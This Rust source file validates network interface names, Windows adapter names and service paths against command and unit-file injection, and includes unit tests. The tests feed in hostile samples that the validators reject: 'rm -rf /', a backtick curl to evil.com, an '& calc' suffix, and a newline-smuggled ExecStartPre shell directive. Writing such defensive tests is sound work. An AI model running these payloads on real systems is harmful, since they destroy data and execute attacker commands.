//! Input validation and sanitization
//!
//! Interface names reach OS tools as arguments and service paths end up inside
//! persisted unit files, so both are checked before use.

use crate::error::{GatewayError, GatewayResult};
use std::path::Path;

/// Maximum length for interface names (Linux kernel limit is 15)
const MAX_INTERFACE_NAME_LEN: usize = 15;

/// Windows adapter names ("Ethernet 2", "vEthernet (WSL)") are longer and may contain spaces
const MAX_ADAPTER_NAME_LEN: usize = 256;

/// Maximum length for a path embedded in a service definition
const MAX_PATH_VALUE_LEN: usize = 4096;

/// Validate a Unix interface name to prevent command injection
///
/// Interface names must be alphanumeric with optional dashes, underscores and
/// dots, and no longer than 15 characters (Linux kernel limit)
pub fn validate_interface_name(name: &str) -> GatewayResult<()> {
    if name.is_empty() {
        return Err(GatewayError::InvalidParameter(
            "Interface name cannot be empty".to_string()
        ));
    }

    if name.len() > MAX_INTERFACE_NAME_LEN {
        return Err(GatewayError::InvalidParameter(
            format!("Interface name too long (max {} characters)", MAX_INTERFACE_NAME_LEN)
        ));
    }

    // Only allow alphanumeric, dash, underscore, dot (VLAN sub-interfaces)
    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '_' && c != '.' {
            return Err(GatewayError::InvalidParameter(
                format!("Invalid interface name '{}': contains invalid character '{}'", name, c)
            ));
        }
    }

    // Don't allow names starting with dash (could be interpreted as option)
    if name.starts_with('-') {
        return Err(GatewayError::InvalidParameter(
            "Interface name cannot start with dash".to_string()
        ));
    }

    Ok(())
}

/// Validate a Windows adapter name. Spaces and parentheses are legal there,
/// but quotes and control characters are not.
pub fn validate_adapter_name(name: &str) -> GatewayResult<()> {
    if name.trim().is_empty() || name.len() > MAX_ADAPTER_NAME_LEN {
        return Err(GatewayError::InvalidParameter(
            format!("Invalid adapter name '{}'", name)
        ));
    }

    if name.chars().any(|c| c.is_control() || c == '"') {
        return Err(GatewayError::InvalidParameter(
            format!("Adapter name '{}' contains invalid characters", name)
        ));
    }

    Ok(())
}

/// Require an absolute path
pub fn validate_absolute_path(path: &Path, what: &str) -> GatewayResult<()> {
    if path.as_os_str().is_empty() {
        return Err(GatewayError::InvalidParameter(format!("{} path is empty", what)));
    }

    if !path.is_absolute() {
        return Err(GatewayError::InvalidParameter(
            format!("{} path must be absolute: {}", what, path.display())
        ));
    }

    Ok(())
}

/// Sanitize a path before embedding it into a persisted service definition
///
/// Rejects control characters (a newline would start a new unit-file
/// directive), NUL and overlong values.
pub fn sanitize_path_value(path: &Path) -> GatewayResult<String> {
    let value = path.to_str().ok_or_else(|| GatewayError::InvalidParameter(
        format!("Path is not valid UTF-8: {}", path.display())
    ))?;

    if value.contains('\0') {
        return Err(GatewayError::InvalidParameter(
            "Path contains null byte".to_string()
        ));
    }

    if value.chars().any(|c| c.is_control()) {
        return Err(GatewayError::InvalidParameter(
            "Path contains invalid control characters".to_string()
        ));
    }

    if value.len() > MAX_PATH_VALUE_LEN {
        return Err(GatewayError::InvalidParameter(
            format!("Path too long (max {} characters)", MAX_PATH_VALUE_LEN)
        ));
    }

    Ok(value.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn test_interface_name_validation() {
        // Valid names
        assert!(validate_interface_name("eth0").is_ok());
        assert!(validate_interface_name("en0").is_ok());
        assert!(validate_interface_name("utun3").is_ok());
        assert!(validate_interface_name("enp0s31f6").is_ok());
        assert!(validate_interface_name("eth0.100").is_ok());

        // Invalid names - command injection attempts
        assert!(validate_interface_name("eth0; rm -rf /").is_err());
        assert!(validate_interface_name("en0`curl evil.com`").is_err());
        assert!(validate_interface_name("eth0|ls").is_err());
        assert!(validate_interface_name("eth0\nmalicious").is_err());

        // Invalid - too long, leading dash, empty
        assert!(validate_interface_name("verylonginterfacename").is_err());
        assert!(validate_interface_name("-eth0").is_err());
        assert!(validate_interface_name("").is_err());
    }

    #[test]
    fn test_adapter_name_validation() {
        assert!(validate_adapter_name("Ethernet").is_ok());
        assert!(validate_adapter_name("vEthernet (WSL)").is_ok());
        assert!(validate_adapter_name("WLAN 2").is_ok());

        assert!(validate_adapter_name("").is_err());
        assert!(validate_adapter_name("Ethernet\" & calc").is_err());
        assert!(validate_adapter_name("a\r\nb").is_err());
    }

    #[test]
    fn test_absolute_path_validation() {
        #[cfg(unix)]
        assert!(validate_absolute_path(Path::new("/usr/local/bin/gateway"), "binary").is_ok());
        #[cfg(windows)]
        assert!(validate_absolute_path(Path::new(r"C:\gateway\gateway.exe"), "binary").is_ok());

        assert!(validate_absolute_path(Path::new("gateway"), "binary").is_err());
        assert!(validate_absolute_path(Path::new("./data"), "data").is_err());
        assert!(validate_absolute_path(Path::new(""), "data").is_err());
    }

    #[test]
    fn test_sanitize_path_value() {
        let ok = PathBuf::from("/opt/gateway/data dir");
        assert_eq!(sanitize_path_value(&ok).unwrap(), "/opt/gateway/data dir");

        let injected = PathBuf::from("/opt/gw\nExecStartPre=/bin/sh -c evil");
        assert!(sanitize_path_value(&injected).is_err());

        let long = PathBuf::from(format!("/{}", "a".repeat(5000)));
        assert!(sanitize_path_value(&long).is_err());
    }
}
